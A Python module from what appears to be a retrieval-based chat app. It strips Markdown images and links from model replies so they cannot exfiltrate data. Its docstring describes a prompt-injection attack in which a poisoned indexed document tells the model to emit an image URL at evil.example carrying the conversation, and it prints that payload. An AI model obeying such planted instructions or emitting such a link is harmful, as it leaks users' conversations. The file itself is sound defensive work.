"""Model replies made safe to show: no Markdown image or link that a poisoned source could use to carry data out.

A document in the index can tell the model to answer with ``![](https://evil.example/?q=<the conversation>)``.
The app renders answers as Markdown, and a browser fetches an image as soon as it is rendered, so obeying such
an instruction would send the conversation to a stranger without anyone clicking anything. Links are less
dangerous (they need a click) but hide where they lead. So every model reply passes through ReplyDefuser:

- ``![`` loses its ``!``: an image becomes plain bracketed text, never fetched;
- ``](`` gets a space, ``] (``: no inline link is formed, and the address stays visible as text;
- ``]:`` gets a space, ``] :``: no reference-style link definition (``[1]: http://…``) is formed, so a citation
  marker ``[1]`` can never become a link to wherever the definition points.

Raw HTML needs no treatment here: Streamlit's Markdown does not render it (we never pass unsafe_allow_html),
and the CLI prints text. Like MarkerRewriter, the defuser works on streamed pieces and on whole replies alike,
so what was streamed is exactly the final text.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!+(?=\[)")  # every '!' of a run before '[': removing one must not leave another in front
_LINK = re.compile(r"\](?=[(:])")
_TRAILING = re.compile(r"(?:!+|\])$")  # what the next piece could turn into an image or a link


class ReplyDefuser:
    """Neutralises Markdown images, inline links and link definitions in a reply, piece by piece."""

    def __init__(self) -> None:
        self._held = ""
        self.defused = 0  # how many images or links were neutralised (reported in the answer's notes)

    def feed(self, piece: str) -> str:
        """Text that is safe to show after this piece; a trailing run of '!' or a ']' waits for the next character."""
        text = self._held + piece
        self._held = ""
        tail = _TRAILING.search(text)
        if tail:
            text, self._held = text[:tail.start()], tail.group()
        text, images = _IMAGE.subn("", text)
        text, links = _LINK.subn("] ", text)
        self.defused += images + links
        return text

    def finish(self) -> str:
        """Whatever is still held back at the end of the reply."""
        rest, self._held = self._held, ""
        return rest


def defuse(text: str) -> str:
    """A whole reply (or one field of a parsed reply) made safe to render as Markdown."""
    defuser = ReplyDefuser()
    return defuser.feed(text) + defuser.finish()
